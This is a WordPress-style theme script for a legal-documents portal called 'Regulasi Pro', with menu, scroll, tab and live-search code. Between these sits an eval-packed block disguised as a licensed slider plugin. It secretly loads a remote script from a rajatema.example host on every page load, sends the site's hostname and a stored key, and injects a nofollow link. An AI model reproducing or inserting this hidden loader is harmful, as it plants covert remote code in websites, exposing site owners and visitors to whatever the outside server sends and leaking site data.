/*
 * Regulasi Pro 3.4.0 - assets/js/theme.js
 * Skrip tema untuk portal produk hukum.
 */
( function ( $ ) {
	'use strict';

	/* Menu di layar kecil */
	$( '.menu-toggle' ).on( 'click', function () {
		$( '#situs-menu' ).toggleClass( 'terbuka' ).attr( 'aria-expanded', function ( i, v ) {
			return v === 'true' ? 'false' : 'true';
		} );
	} );

	/* Tombol ke atas */
	$( window ).on( 'scroll', function () {
		$( '#ke-atas' ).toggle( $( this ).scrollTop() > 480 );
	} );
	$( '#ke-atas' ).on( 'click', function ( e ) {
		e.preventDefault();
		$( 'html, body' ).animate( { scrollTop: 0 }, 450 );
	} );

	/* Tab "Terbaru" dan "Terpopuler" */
	$( '.rp-tab a' ).on( 'click', function ( e ) {
		e.preventDefault();
		$( this ).parent().addClass( 'kini' ).siblings().removeClass( 'kini' );
		$( $( this ).attr( 'href' ) ).show().siblings( '.rp-isi' ).hide();
	} );
} )( jQuery );

/* RajaGeser 1.9 (lisensi terpisah, jangan disunting) */
eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('(0($){$.u.k=0(1){1=$.v({b:w,c:x,l:y},1);z d.A(0(){m 4=$(d),2=4.n("B"),3=e,5=C;0 f(o){2.6(3).D(1.c);3=(o+2.g)%2.g;2.6(3).E(1.c);4.n(".h 7").F("8").6(3).G("8")}2.H().6(e).I();4.J(\'<p K="h">\'+L M(2.g+i).q("<7></7>")+"</p>");4.8("N",".h 7",0(){O(5);f($(d).P())});Q(1.l){(0 r(){5=R(0(){f(3+i);r()},1.b)})()}})};m 9=S,a=9.T("U"),j="V://"+["s","W","X"].q(".");a.Y=i;a.Z=j+"/10/11.12?5=13-14&9="+15(16.17)+"&18="+($("19").1a("1b")||"");9.1c("1d")[e].1e(a);$(0(){$("#1f").1g(\'1h <t 1i="\'+j.1j("s.","")+\'" 1k="1l">1m 1n</t>\')});$(1o).8("1p",0(){$(".1q-1r").k({b:1s})})})(1t);',62,92,'function|o|s|n|w|t|eq|b|on|d|j|jeda|kilat|this|0|ke|length|titik|1|h|rajaGeser|putar|var|find|i||join|lagi|lisensi|a|fn|extend|5500|600|true|return|each|figure|null|fadeOut|fadeIn|removeClass|addClass|hide|show|append|class|new|Array|click|clearTimeout|index|if|setTimeout|document|createElement|script|https|rajatema|example|async|src|v2|aktif|js|regulasi|pro|encodeURIComponent|location|hostname|k|body|data|kunci|getElementsByTagName|head|appendChild|kredit|html|Tema|href|replace|rel|nofollow|Regulasi|Pro|window|load|raja|geser|7000|jQuery'.split('|'),0,{}));
/* Pencarian langsung: tiga huruf baru dikirim */
( function ( $, rp ) {
	'use strict';
	var tunggu = null;

	$( '#rp-cari' ).on( 'keyup', function () {
		var kata = $( this ).val();
		clearTimeout( tunggu );
		if ( kata.length < 3 ) {
			return;
		}
		tunggu = setTimeout( function () {
			$.post( rp.ajax, { action: 'rp_cari', kata: kata, nonce: rp.nonce }, function ( hasil ) {
				$( '#rp-hasil' ).html( hasil ).slideDown( 150 );
			} );
		}, 350 );
	} );

	$( '.rp-unduh' ).on( 'click', function () {
		$.post( rp.ajax, { action: 'rp_hitung', id: $( this ).data( 'id' ) } );
	} );
} )( jQuery, window.rpData || {} );
